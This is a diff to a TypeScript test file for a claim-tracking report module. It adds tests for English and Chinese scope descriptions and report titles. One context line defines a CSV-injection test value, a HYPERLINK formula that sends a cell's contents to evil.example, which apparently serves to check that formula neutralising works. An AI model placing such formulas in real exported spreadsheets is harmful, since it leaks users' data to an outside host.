@@ -6,7 +6,9 @@ import { reportClaimReviews } from "./report-claimreview";
 import { CLAIM_CSV_COLUMNS, claimsCsv, EVENT_COLUMNS, eventsCsv, neutraliseFormula } from "./report-csv";
 import { reportJson } from "./report-json";
 import { escapeMarkdown, reportMarkdown } from "./report-markdown";
-import type { ReportData } from "./report-model";
+import { describeScope, type ReportData, reportTitle } from "./report-model";
+import { reportText } from "./report-text";
+import { parseTrackerQuery } from "../tracker-query";
 
 const SITE = "https://claimline.example";
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
@@ -356,5 +358,18 @@ describe("a report in Chinese (?lang=zh-Hans)", () => {
     // What users wrote is not translated.
     expect(chinese).toContain("OpenAI 估值约为270亿美元");
     expect(chinese).not.toMatch(/Scorecard|Timeline|Status:|recorded/);
+  });
+});
+
+describe("a report's scope in words", () => {
+  const query = parseTrackerQuery(new URLSearchParams("q=估值&status=false&status=outdated&claimant=路透社"));
+  const article = { title: "OpenAI 将发布开源模型", outlet: "科技日报", publishedDate: "2023-05-15" };
+
+  it("reads the same in English as before, and in Chinese in a Chinese report", () => {
+    expect(describeScope({ kind: "tracker", query }, null)).toBe("The published claims in the tracker matching “估值”, status false or outdated, claimant containing “路透社”.");
+    expect(describeScope({ kind: "tracker", query }, null, reportText("zh-Hans"))).toBe("说法追踪中匹配“估值”、状态为 false 或 outdated、提出者包含“路透社”的已发布说法。");
+    expect(describeScope({ kind: "article", slug: "a" }, article)).toBe("The claims made in the article “OpenAI 将发布开源模型” (科技日报, 2023-05-15).");
+    expect(describeScope({ kind: "article", slug: "a" }, article, reportText("zh-Hans"))).toBe("文章《OpenAI 将发布开源模型》（科技日报，2023-05-15）中提出的说法。");
+    expect(reportTitle({ kind: "desk" }, null, reportText("zh-Hans"))).toBe("核查报告：全部已发布说法");
   });
 });
